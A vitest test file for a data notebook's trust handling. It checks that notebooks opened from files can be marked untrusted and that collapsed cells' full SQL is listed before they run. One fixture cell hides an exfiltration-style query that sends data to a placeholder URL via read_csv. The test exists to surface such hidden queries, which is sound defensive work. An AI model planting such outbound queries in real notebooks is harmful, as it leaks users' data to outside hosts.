import { describe, expect, it } from 'vitest';
import { distrust, emptyNotebook, parseNotebook, serializeNotebook, trust, type Notebook } from '$lib/notebook';
import { notebookActions } from '$lib/cells/actions';
import { cellSchemas } from '$lib/cells/definitions';

function quarterly(): Notebook {
	const doc = emptyNotebook('Quarterly review', 'nb_q');
	doc.cells = [
		{ id: 'c1', type: 'markdown', title: '', collapsed: false, params: { text: '# Notes' } },
		{ id: 'c2', type: 'data', title: '', collapsed: false, params: { fileKey: 'k', fileName: 'clients.csv', table: 'clients', options: {} } },
		{ id: 'c3', type: 'sql', title: 'Totals', collapsed: true, params: { sql: "SELECT * FROM read_csv('http://x/?d=' || 1)", view: 'totals' } },
		{ id: 'c4', type: 'profile', title: '', collapsed: false, params: { table: 'clients' } }
	];
	return doc;
}

describe('trust of notebooks opened from files', () => {
	it('distrust(doc) then trust(doc) round-trips without the flag', () => {
		const doc = quarterly();
		expect(distrust(doc).untrusted).toBe(true);
		expect(trust(distrust(doc))).toEqual(doc);
		expect('untrusted' in trust(distrust(doc))).toBe(false);
	});

	it('serializeNotebook(untrusted doc) never carries the flag into the file', () => {
		const text = serializeNotebook(distrust(quarterly()));
		expect(text).not.toContain('untrusted');
		expect(parseNotebook(text, cellSchemas).doc.untrusted).toBeUndefined();
	});

	it('notebookActions(cells) lists every cell that runs, collapsed ones with their full SQL', () => {
		const actions = notebookActions(quarterly().cells);
		expect(actions.map((a) => a.cellId)).toEqual(['c2', 'c3', 'c4']);
		expect(actions[0].summary).toBe('loads the file "clients.csv" as table clients');
		expect(actions[1]).toMatchObject({ name: 'Totals', collapsed: true, summary: 'runs SQL, saved as totals:', code: "SELECT * FROM read_csv('http://x/?d=' || 1)" });
		expect(actions[2]).toMatchObject({ name: 'Profile', summary: 'reads clients' });
	});
});
